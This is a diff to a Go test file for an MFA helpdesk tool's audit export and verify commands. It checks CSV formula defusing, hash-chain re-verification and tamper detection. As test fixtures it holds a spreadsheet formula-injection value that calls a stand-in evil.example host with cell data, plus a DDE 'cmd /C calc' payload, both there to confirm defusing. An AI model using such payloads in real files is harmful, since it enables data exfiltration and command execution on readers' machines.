@@ -4,9 +4,13 @@ import (
 	"bufio"
 	"encoding/csv"
 	"encoding/json"
+	"errors"
 	"fmt"
+	"os"
+	"strconv"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/mfadesk/mfadesk/actions"
 	"github.com/mfadesk/mfadesk/actions/directories/dryrun"
@@ -126,11 +130,21 @@ func TestAuditExport(t *testing.T) {
 		if code != 0 || err != nil || len(rows) != 8 {
 			t.Fatalf("csv: exit %d, %v, %d rows", code, err, len(rows))
 		}
-		if strings.Join(rows[0], ",") != "seq,time,request_id,event,actor,action,targets,target,outcome,detail,prev_hash,hash" {
+		if strings.Join(rows[0], ",") != "seq,time,request_id,event,actor,action,targets,target,method,outcome,detail,prev_hash,hash" {
 			t.Errorf("csv header = %v", rows[0])
 		}
-		if created := rows[1]; created[3] != "created" || strings.Count(created[6], ";") != 2 {
-			t.Errorf("created row targets not joined with ';': %v", created)
+		var v2 actions.ChainVerifier
+		for _, row := range rows[1:] {
+			ev, err := eventFromCSV(row)
+			if err != nil {
+				t.Fatalf("row %v: %v", row, err)
+			}
+			if err := v2.Next(ev); err != nil {
+				t.Errorf("CSV export does not verify: %v", err)
+			}
+		}
+		if created, _ := eventFromCSV(rows[1]); created.Kind != "created" || len(created.Targets) != 3 {
+			t.Errorf("created row: %+v, want 3 targets", created)
 		}
 
 		if code, out, _ := runCmd(t, e, "audit", "export", "--since", "2999-01-01T00:00:00Z"); code != 0 || out != "" {
@@ -207,4 +221,236 @@ func TestExamplePolicyParses(t *testing.T) {
 	if got := fmt.Sprint(pol.Enabled()); got != "[reset-password require-reregister-mfa revoke-mfa-sessions delete-app-passwords]" {
 		t.Errorf("enabled = %s", got)
 	}
+}
+
+// eventFromCSV reads an exported CSV row back into an event, as a reader
+// following the README would: drop one leading "'", decode list cells as
+// JSON.
+func eventFromCSV(row []string) (actions.Event, error) {
+	if len(row) != len(csvHeader) {
+		return actions.Event{}, fmt.Errorf("%d cells, want %d", len(row), len(csvHeader))
+	}
+	for i, c := range row {
+		row[i] = strings.TrimPrefix(c, "'")
+	}
+	seq, err := strconv.ParseInt(row[0], 10, 64)
+	if err != nil {
+		return actions.Event{}, err
+	}
+	at, err := time.Parse(time.RFC3339Nano, row[1])
+	if err != nil {
+		return actions.Event{}, err
+	}
+	e := actions.Event{Seq: seq, Time: at, RequestID: row[2], Kind: actions.EventKind(row[3]), Actor: row[4],
+		Action: actions.Action(row[5]), Method: row[8], Outcome: row[9], Detail: row[10], PrevHash: row[11], Hash: row[12]}
+	if row[6] != "" {
+		if err := json.Unmarshal([]byte(row[6]), &e.Targets); err != nil {
+			return e, fmt.Errorf("targets: %w", err)
+		}
+	}
+	if row[7] != "" {
+		if err := json.Unmarshal([]byte(row[7]), &e.Target); err != nil {
+			return e, fmt.Errorf("target: %w", err)
+		}
+	}
+	return e, nil
+}
+
+// Cells a spreadsheet would run are defused, and lists with separators in
+// their emails split back exactly.
+func TestAuditExportCSVSafe(t *testing.T) {
+	storagetest.EachDB(t, func(t *testing.T, db storagetest.DB) {
+		evil := []actions.Event{{
+			Time: time.Now(), RequestID: "R1", Kind: actions.EventCreated, Actor: "@U0HELP1", Action: actions.ResetPassword,
+			Targets: []actions.TargetRef{{SlackID: "U1", Email: "a|b;c@example.com", DirectoryID: "x;y"}, {SlackID: "U2", Email: "d,e@example.com"}},
+			Detail:  `=HYPERLINK("https://evil.example/?"&A1,"open")`,
+		}, {
+			Time: time.Now(), RequestID: "R1", Kind: actions.EventTargetResult, Actor: "mfadesk", Action: actions.ResetPassword,
+			Target: &actions.TargetRef{SlackID: "U1", Email: "a|b;c@example.com"}, Outcome: "ok", Detail: "+1 -2 'quoted",
+		}, {
+			Time: time.Now(), Kind: actions.EventRefused, Actor: "U3", Detail: "'=already quoted", Method: "-push",
+		}}
+		if err := db.Store.AppendEvents(t.Context(), evil...); err != nil {
+			t.Fatal(err)
+		}
+		e := env{"MFADESK_DATABASE_URL": db.URL}
+		code, out, errOut := runCmd(t, e, "audit", "export", "--format", "csv")
+		if code != 0 {
+			t.Fatalf("exit %d: %s", code, errOut)
+		}
+		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+		if err != nil || len(rows) != 4 {
+			t.Fatalf("csv: %v, %d rows", err, len(rows))
+		}
+		for _, row := range rows[1:] {
+			for _, c := range row {
+				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+					t.Errorf("cell %q would run in a spreadsheet", c)
+				}
+			}
+		}
+		if got := rows[1][10]; got != `'=HYPERLINK("https://evil.example/?"&A1,"open")` {
+			t.Errorf("formula cell = %q", got)
+		}
+		var v actions.ChainVerifier
+		for i, row := range rows[1:] {
+			ev, err := eventFromCSV(row)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if err := v.Next(ev); err != nil {
+				t.Errorf("row %d does not re-hash: %v", i+1, err)
+			}
+			if ev.Detail != evil[i].Detail || ev.Method != evil[i].Method || ev.Actor != evil[i].Actor {
+				t.Errorf("row %d read back as %+v, want %+v", i+1, ev, evil[i])
+			}
+		}
+		if first, _ := eventFromCSV(rows[1]); len(first.Targets) != 2 || first.Targets[0].Email != "a|b;c@example.com" || first.Targets[0].DirectoryID != "x;y" {
+			t.Errorf("targets read back as %+v", first.Targets)
+		}
+	})
+}
+
+// Every exported line, JSONL and CSV, re-hashes to its hash, whatever the
+// event holds.
+func FuzzExportRehashes(f *testing.F) {
+	f.Add("R1", "U1", "=cmd|' /C calc'!A0", "a|b;c@x", "push", int64(1700000000123456))
+	f.Add("\xff\x00", "@x", "\u2028<&>\"", "", "", int64(0))
+	f.Fuzz(func(t *testing.T, req, actor, detail, email, method string, us int64) {
+		e := actions.Event{Time: time.UnixMicro(us), RequestID: req, Kind: actions.EventTargetResult, Actor: actor,
+			Action: actions.Action(method), Method: method, Outcome: detail, Detail: detail,
+			Target:  &actions.TargetRef{SlackID: actor, Email: email, DirectoryID: req},
+			Targets: []actions.TargetRef{{Email: email}, {SlackID: detail}}}
+		e.Seal(41, strings.Repeat("0", 64))
+		line, err := json.Marshal(exportable(e))
+		if err != nil {
+			t.Fatal(err)
+		}
+		var back actions.Event
+		if err := json.Unmarshal(line, &back); err != nil {
+			t.Fatalf("%s: %v", line, err)
+		}
+		if got := back.ComputeHash(); got != back.Hash || back.Hash != e.Hash {
+			t.Fatalf("JSONL line %s re-hashes to %s, want %s", line, got, e.Hash)
+		}
+		var buf strings.Builder
+		w := csv.NewWriter(&buf)
+		x := exportable(e)
+		targets, _ := csvJSON(x.Targets, false)
+		target, _ := csvJSON(x.Target, false)
+		row := []string{strconv.FormatInt(x.Seq, 10), x.Time, x.RequestID, string(x.Event), x.Actor,
+			string(x.Action), targets, target, x.Method, x.Outcome, x.Detail, x.PrevHash, x.Hash}
+		for i := range row {
+			row[i] = csvCell(row[i])
+		}
+		if err := w.Write(row); err != nil {
+			t.Fatal(err)
+		}
+		w.Flush()
+		rows, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
+		if err != nil || len(rows) != 1 {
+			t.Fatalf("csv %q: %v", buf.String(), err)
+		}
+		ev, err := eventFromCSV(rows[0])
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := ev.ComputeHash(); got != e.Hash {
+			t.Fatalf("CSV row %q re-hashes to %s, want %s", buf.String(), got, e.Hash)
+		}
+	})
+}
+
+// audit verify walks to the database's recorded head and checks that every
+// finished request has its created and closing events, so a log cut at its
+// end, or a finished request with an event taken out and the head moved
+// back, is found.
+func TestAuditVerifyFindsMissingEvents(t *testing.T) {
+	tests := []struct {
+		name string
+		sql  []string
+		want []string // stdout lines name these
+	}{
+		{"cut tail", []string{`DELETE FROM audit_events WHERE seq >= 4`},
+			[]string{"broken: the log ends at event 3, but the database's recorded head is event 7", "events 4 to 7 were cut from the end"}},
+		{"last event replaced", []string{`UPDATE audit_events SET hash = 'x' || hash WHERE seq = 7`, `UPDATE audit_head SET hash = 'x' || hash`},
+			[]string{"broken: audit chain broken at event 7"}},
+		{"completed taken out, head moved back", []string{
+			`DELETE FROM audit_events WHERE seq = 7`,
+			`UPDATE audit_head SET seq = 6, hash = (SELECT hash FROM audit_events WHERE seq = 6)`,
+		}, []string{"is succeeded, but the log lacks its `completed` event"}},
+		{"created taken out, chain rebuilt", nil, []string{"lacks its `created` event"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			storagetest.EachDB(t, func(t *testing.T, db storagetest.DB) {
+				var e env
+				if tt.sql == nil {
+					// A request whose created event is gone, though the chain
+					// is whole: a finished request made by hand.
+					e = env{"MFADESK_DATABASE_URL": db.URL}
+					approvedRequest(t, db.Store, writePolicy(t), 1)
+					storagetest.Tamper(t, db, `DELETE FROM audit_events`, `UPDATE audit_head SET seq = 0, hash = ''`,
+						`UPDATE requests SET state = 'cancelled'`)
+					if err := db.Store.AppendEvents(t.Context(), actions.Event{Time: time.Now(), Kind: actions.EventCancelled,
+						Actor: "U0HELP1", RequestID: onlyRequestID(t, db)}); err != nil {
+						t.Fatal(err)
+					}
+				} else {
+					e = auditDB(t, db)
+					storagetest.Tamper(t, db, tt.sql...)
+				}
+				code, out, errOut := runCmd(t, e, "audit", "verify")
+				if code != 1 {
+					t.Fatalf("exit %d, stdout %q, stderr %q; want 1", code, out, errOut)
+				}
+				for _, w := range tt.want {
+					if !strings.Contains(out, w) {
+						t.Errorf("stdout %q lacks %q", out, w)
+					}
+				}
+			})
+		})
+	}
+}
+
+func onlyRequestID(t *testing.T, db storagetest.DB) string {
+	t.Helper()
+	var id string
+	if err := storagetest.Raw(t, db).QueryRowContext(t.Context(), `SELECT id FROM requests`).Scan(&id); err != nil {
+		t.Fatal(err)
+	}
+	return id
+}
+
+// Read-only commands create no database and refuse an unmigrated one; a
+// stated head on an empty log does not claim a rewrite.
+func TestAuditReadOnlyDatabases(t *testing.T) {
+	dir := t.TempDir()
+	typo := dir + "/typo.db"
+	for _, args := range [][]string{{"audit", "verify"}, {"audit", "export"}} {
+		code, _, errOut := runCmd(t, env{"MFADESK_DATABASE_URL": "sqlite:" + typo}, args...)
+		if code != 1 || !strings.Contains(errOut, "no database at "+typo) {
+			t.Errorf("%v on a missing file: exit %d, %q", args, code, errOut)
+		}
+		if _, err := os.Stat(typo); !errors.Is(err, os.ErrNotExist) {
+			t.Fatalf("%v created %s", args, typo)
+		}
+	}
+	storagetest.EachDB(t, func(t *testing.T, db storagetest.DB) {
+		bare := storagetest.URL(t, db.Dialect)
+		storagetest.Open(t, bare) // exists, not migrated
+		code, _, errOut := runCmd(t, env{"MFADESK_DATABASE_URL": bare}, "audit", "verify")
+		if code != 1 || !strings.Contains(errOut, "not migrated") || !strings.Contains(errOut, "mfadesk migrate") {
+			t.Errorf("unmigrated: exit %d, %q", code, errOut)
+		}
+		e := env{"MFADESK_DATABASE_URL": db.URL}
+		if code, out, _ := runCmd(t, e, "audit", "verify"); code != 0 || out != "ok 0 events\n" {
+			t.Errorf("empty log: exit %d, %q", code, out)
+		}
+		code, out, _ := runCmd(t, e, "audit", "verify", "--head", strings.Repeat("ab", 32))
+		if code != 1 || !strings.Contains(out, "the audit log is empty") || strings.Contains(out, "rewritten") {
+			t.Errorf("--head on an empty log: exit %d, %q", code, out)
+		}
+	})
 }
